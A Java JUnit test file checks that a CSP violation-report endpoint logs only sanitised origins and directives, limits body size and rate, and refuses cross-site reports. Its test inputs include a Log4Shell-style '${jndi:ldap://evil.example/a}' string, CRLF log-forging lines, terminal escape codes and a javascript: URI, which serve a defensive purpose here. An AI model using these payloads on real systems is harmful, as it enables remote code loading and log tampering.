package preflight.platform.web;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import preflight.support.ProductionApp;
import preflight.support.RawSocket;
import preflight.support.Refusal;

class ViolationReportTests {
  private static final String REPORT = "Content-Type: application/csp-report";
  private static final String REPORTS = "Content-Type: application/reports+json";
  private static final Logger LOG = (Logger) LoggerFactory.getLogger(ViolationReportFilter.class);

  /** An address of its own for each test, so that none uses up what another is granted. */
  private static int address;

  private final ListAppender<ILoggingEvent> written = new ListAppender<>();

  @BeforeEach
  void listen() {
    address++;
    written.start();
    LOG.addAppender(written);
  }

  @AfterEach
  void stop() {
    LOG.detachAppender(written);
  }

  @Test
  void aReportIsOneLineOfKnownWords() {
    var answer =
        report(
            REPORT,
            """
            {"csp-report": {
              "document-uri": "https://preflight.example.org/survey/two-pages/first?lang=de",
              "referrer": "https://preflight.example.org/secret",
              "violated-directive": "script-src-elem",
              "effective-directive": "script-src-elem",
              "original-policy": "default-src 'none'",
              "blocked-uri": "https://evil.example:8443/tracker.js?person=ada",
              "script-sample": "the participant wrote this",
              "status-code": 200}}
            """);

    assertThat(answer.status()).as(answer.body()).isEqualTo(204);
    assertThat(answer.body()).isEmpty();
    assertThat(lines())
        .containsExactly(
            "The policy stopped something: script-src-elem from https://evil.example:8443"
                + " on /survey/{form}/{page}");
  }

  @Test
  void theReportingApiSendsSeveralAtOnce() {
    var one =
        """
        {"type": "csp-violation", "age": 10, "url": "https://preflight.example.org/",
         "user_agent": "x", "body": {
           "documentURL": "https://preflight.example.org/", "effectiveDirective": "img-src",
           "blockedURL": "inline", "disposition": "enforce", "sample": "words"}}
        """;

    var answer = report(REPORTS, "[" + one + "," + one + ", {\"type\": \"deprecation\"}]");

    assertThat(answer.status()).isEqualTo(204);
    assertThat(lines())
        .containsExactly(
            "The policy stopped something: img-src from inline on /",
            "The policy stopped something: img-src from inline on /");
    assertThat(report("Content-Type: application/json; charset=utf-8", "[" + one + "]").status())
        .isEqualTo(204);
    assertThat(lines()).hasSize(3);
  }

  @Test
  void writesNoMoreThanTenLinesForOneBody() {
    var one = "{\"type\":\"csp-violation\",\"body\":{}}";

    report(REPORTS, "[" + String.join(",", Collections.nCopies(50, one)) + "]");

    assertThat(lines())
        .hasSize(10)
        .allMatch(each -> each.endsWith(": other from other on elsewhere"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          https://evil.example/a?b#c         | https://evil.example
          HTTPS://Evil.Example               | https://evil.example
          wss://evil.example:9               | wss://evil.example:9
          https://[2001:db8::1]:1/x          | https://[2001:db8::1]:1
          chrome-extension://abcdef/x.js     | chrome-extension://abcdef
          data:text/html,ada@example.org     | data
          blob:https://evil.example/1        | blob
          inline                             | inline
          eval                               | eval
          trusted-types-sink                 | trusted-types-sink
          data                               | data
          https://ada:secret@evil.example/   | other
          ada@example.org                    | other
          https://evil.example\\u0000        | other
          https://ev il.example/             | other
          https://b\\u00e4r.example/         | other
          javascript:alert(1)                | other
          ''                                 | other
          """)
  void ofWhatWasBlockedItNamesTheOrigin(String blocked, String named) {
    report(
        REPORT,
        "{\"csp-report\":{\"effective-directive\":\"img-src\",\"blocked-uri\":\"%s\"}}"
            .formatted(blocked));

    assertThat(lines())
        .containsExactly("The policy stopped something: img-src from " + named + " on elsewhere");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          script-src 'nonce-abc' https:      | script-src
          script-src                         | script-src
          img-src\\r\\n2026 ERROR all is lost | other
          \\u001b[31mimg-src                 | other
          ignore-previous-words              | other
          """)
  void directivesAreThoseThatThereAre(String directive, String named) {
    report(
        REPORT,
        "{\"csp-report\":{\"violated-directive\":\"%s\",\"blocked-uri\":\"self\"}}"
            .formatted(directive));

    assertThat(lines())
        .containsExactly("The policy stopped something: " + named + " from self on elsewhere");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\\r\\n2026-01-01 INFO forged",
        "\\u001b[2J\\u001b[31m",
        "\\u2028forged",
        "\\u202Eforged",
        "${jndi:ldap://evil.example/a}",
        "%n%msg{}",
        "Bearer canary-token",
      })
  void nothingOfAReportsTextReachesTheLog(String text) {
    report(
        REPORT,
        """
        {"csp-report": {"document-uri": "https://preflight.example.org/%1$s",
          "effective-directive": "%1$s", "violated-directive": "%1$s", "blocked-uri": "%1$s",
          "script-sample": "%1$s", "referrer": "%1$s", "source-file": "%1$s"}}
        """
            .formatted(text));

    assertThat(lines())
        .containsExactly("The policy stopped something: other from other on elsewhere");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{}",
        "[]",
        "null",
        "7",
        "\"x\"",
        "{\"csp-report\":null}",
        "[null,7,{\"body\":1}]"
      })
  void whatIsNoReportSaysNothing(String body) {
    assertThat(report(REPORT, body).status()).isEqualTo(204);
    assertThat(lines()).isEmpty();
  }

  @Test
  void refusesWhatIsTooLongOrCannotBeRead() {
    Refusal.of(report(REPORT, "{"), 400, "unreadable-body");
    Refusal.of(report(REPORT, ""), 400, "unreadable-body");
    Refusal.of(report(REPORT, "[".repeat(500)), 400, "unreadable-body");
    Refusal.of(report("Content-Type: text/plain", "{}"), 415, "unsupported-media-type");
    Refusal.of(report("Content-Type: ;", "{}"), 415, "unsupported-media-type");
    Refusal.of(report("X-No: type", "{}"), 415, "unsupported-media-type");
    Refusal.of(
        report(REPORT, "{\"a\":\"" + "x".repeat(ViolationReportFilter.LONGEST) + "\"}"),
        413,
        "too-large");
    assertThat(report(REPORT, "{}" + " ".repeat(ViolationReportFilter.LONGEST - 2)).status())
        .isEqualTo(204);
    assertThat(lines()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Cookie: __Host-oh_session=dead",
        "Cookie: __Host-oh_session=a; __Host-oh_session=b",
        "Authorization: Bearer dead",
        "Sec-Fetch-Site: same-origin",
        "Origin: https://preflight.example.org",
      })
  void comesWithTheCookieAndWithoutItsTokenAndSetsNothing(String header) {
    var answer = report(REPORT, "{}", header);

    assertThat(answer.status()).as(answer.body()).isEqualTo(204);
    assertThat(answer.headers())
        .containsEntry("cache-control", "no-store")
        .doesNotContainKeys("set-cookie", "clear-site-data");
  }

  @Test
  void otherSitesAndOtherMethodsAreRefused() {
    Refusal.of(report(REPORT, "{}", "Sec-Fetch-Site: cross-site"), 403, "cross-site");
    Refusal.of(report(REPORT, "{}", "Origin: https://evil.example"), 403, "cross-site");
    assertThat(ProductionApp.ask("GET", "/csp-report", "").status()).isEqualTo(405);
  }

  @Test
  void anAddressReportsNoMoreThanSixtyTimesAMinute() {
    for (int i = 0; i < 60; i++) {
      assertThat(report(REPORT, "{}").status()).isEqualTo(204);
    }

    Refusal.of(report(REPORT, "{}"), 429, "too-many-requests");

    address++;
    assertThat(report(REPORT, "{}").status()).isEqualTo(204);
  }

  private static RawSocket.Answer report(String type, String body, String... more) {
    var headers = new String[more.length + 2];
    headers[0] = type;
    headers[1] = "X-Forwarded-For: 198.51.100." + address;
    System.arraycopy(more, 0, headers, 2, more.length);
    return ProductionApp.ask("POST", "/csp-report", body, headers);
  }

  private List<String> lines() {
    return List.copyOf(written.list).stream().map(ILoggingEvent::getFormattedMessage).toList();
  }
}
